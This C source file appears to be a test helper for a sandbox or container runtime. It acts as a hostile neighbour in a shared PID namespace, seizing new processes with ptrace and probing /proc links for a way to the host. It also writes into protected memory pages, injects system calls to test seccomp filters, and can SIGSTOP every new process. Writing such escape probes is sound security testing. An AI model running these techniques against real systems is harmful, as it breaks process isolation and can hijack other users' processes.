/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile process in a shared PID namespace: attaches (PTRACE_SEIZE) to every process that
 * appears, as early as possible, and looks for a way to the host in it. Needs CAP_SYS_PTRACE.
 *
 *   neighbour SECONDS FILE     FILE: a path that only the host has
 *   neighbour SECONDS stop     sends SIGSTOP to every process that appears, as often as possible;
 *                              needs no capability
 *
 * Prints a line for each finding: "held" (attached to a process), "host by WHAT" (/proc/PID/WHAT
 * leads to FILE), "fd TARGET", "exe TARGET", "unfiltered" (a process without a filter), "admin"
 * (with CAP_SYS_ADMIN), "admin unfiltered" (both), "filtered" or "acted" (the result of a harmless
 * call in a process with a filter), "environment" (of the runtime's caller), "unshared" (the
 * process made a user namespace for us), "wrote" (into a page that must be constant).
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define UP "/../../../../../../../../../../../../.."

static const char *marker;

static void look_at(pid_t pid, const char *what)
{
	char path[8192], target[4096];
	struct stat st;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	n = readlink(path, target, sizeof(target) - 1);
	if (n < 0)
		return;
	if (strcmp(what, "root") && strcmp(what, "cwd"))
		printf("%.2s %.*s\n", what, (int)n, target);
	snprintf(path, sizeof(path), "/proc/%d/%s%s", pid, what, marker);
	if (stat(path, &st) == 0)
		printf("host by %s\n", what);
	snprintf(path, sizeof(path), "/proc/%d/%s" UP "%s", pid, what, marker);
	if (stat(path, &st) == 0)
		printf("host by %s and up\n", what);
}

static unsigned long long field(pid_t pid, const char *file, const char *key, int base)
{
	char path[64], text[8192];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	text[n > 0 ? n : 0] = 0;
	char *at = strstr(text, key);

	return at ? strtoull(at + strlen(key), NULL, base) : 0;
}

/* Whether the first bytes of a file of the process contain the text. */
static int holds(pid_t pid, const char *file, const char *what)
{
	static char text[1 << 17];
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = 0, r = fd;

	while (fd >= 0 && (r = read(fd, text + n, sizeof(text) - (size_t)n)) > 0)
		n += r;
	if (fd >= 0)
		close(fd);
	return memmem(text, (size_t)n, what, strlen(what)) != NULL;
}

/* A page whose address the filter uses must not change. */
static void write_constants(pid_t pid)
{
	char path[64], line[512];
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	while (maps && fgets(line, sizeof(line), maps)) {
		unsigned long long at = strtoull(line, NULL, 16);

		if (!strstr(line, "memfd:proc"))
			continue;
		errno = 0;
		if (ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)at, (void *)0) == 0)
			puts("wrote");
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		int fd = open(path, O_RDWR | O_CLOEXEC);

		if (fd >= 0 && pwrite(fd, "x", 1, (off_t)at) == 1)
			puts("wrote");
		if (fd >= 0)
			close(fd);
	}
	if (maps)
		fclose(maps);
}

/* Lets the process make a call. Returns false if it is gone. *ret is the result of the call. */
static int act(pid_t pid, long nr, long arg, long *ret)
{
#if defined(__x86_64__)
	struct user_regs_struct regs;
	int status;

	*ret = -1;

	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0 ||
	    (ptrace(PTRACE_PEEKTEXT, pid, (void *)(regs.rip - 2), NULL) & 0xffff) != 0x050f)
		return 1;
	regs.rip -= 2;
	regs.rax = (unsigned long long)nr;
	regs.rdi = (unsigned long long)arg;
	regs.orig_rax = (unsigned long long)-1;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 ||
	    ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0 || waitpid(pid, &status, __WALL) != pid)
		return 1;
	if (WIFSTOPPED(status) && WSTOPSIG(status) == SIGTRAP &&
	    ptrace(PTRACE_GETREGS, pid, NULL, &regs) == 0) {
		*ret = (long)regs.rax;
		return 1;
	}
	return !WIFSIGNALED(status) && WIFSTOPPED(status);
#else
	(void)pid, (void)nr, (void)arg;
	*ret = -1;
	return 1;
#endif
}

/* Makes the process call a system call that must be denied, then one that may be allowed. */
static int use(pid_t pid)
{
	long r;

	if (!act(pid, SYS_unshare, CLONE_NEWUSER, &r)) {
		puts("filtered");
		return 0;
	}
	if (r == 0)
		puts("unshared");
	int alive = act(pid, SYS_getuid, 0, &r);

	puts(alive && r >= 0 ? "acted" : "filtered");
	return alive;
}

static void inspect(pid_t pid)
{
	unsigned long long caps = field(pid, "status", "CapEff:\t", 16);
	unsigned long long filtered = field(pid, "status", "Seccomp:\t", 10);
	char fd[16];
	int status;

	look_at(pid, "root");
	look_at(pid, "cwd");
	look_at(pid, "exe");
	for (int i = 0; i < 64; i++) {
		snprintf(fd, sizeof(fd), "fd/%d", i);
		look_at(pid, fd);
	}
	puts("held");
	if (!filtered)
		puts("unfiltered");
	if (caps >> 21 & 1)
		puts(filtered ? "admin" : "admin unfiltered");
	write_constants(pid);
	if (holds(pid, "environ", "TAMIS_TEST_CALLER"))
		puts("environment");
	if (filtered && !use(pid)) {
		waitpid(pid, &status, __WALL);
		return;
	}
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/* Sending signals needs only the same user. */
static int stop(pid_t pid)
{
	if (kill(pid, SIGSTOP) < 0)
		return 0;
	puts("stopped");
	fflush(stdout);
	return 1;
}

static int take(pid_t pid)
{
	int status;

	if (!strcmp(marker, "stop"))
		return stop(pid);

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return 0;
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0 || waitpid(pid, &status, __WALL) != pid)
		return 1;
	if (WIFSTOPPED(status))
		inspect(pid);
	fflush(stdout);
	return 1;
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return 64;
	marker = argv[2];
	time_t end = time(NULL) + strtol(argv[1], NULL, 10);
	pid_t last = getpid();

	puts("up");
	fflush(stdout);
	for (unsigned long i = 0; i % 256 || time(NULL) < end; i++) {
		char text[128] = "", *at;
		int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);

		/* the last field: the newest pid of this namespace */
		if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0)
			return 1;
		close(fd);
		at = strrchr(text, ' ');
		pid_t now = at ? (pid_t)strtol(at, NULL, 10) : last;

		for (pid_t pid = last + 1; pid <= now; pid++)
			take(pid);
		last = now > last ? now : last;
		for (int k = 0; k < 64; k++) /* pids that do not exist yet */
			last += take(last + 1);
	}
	return 0;
}
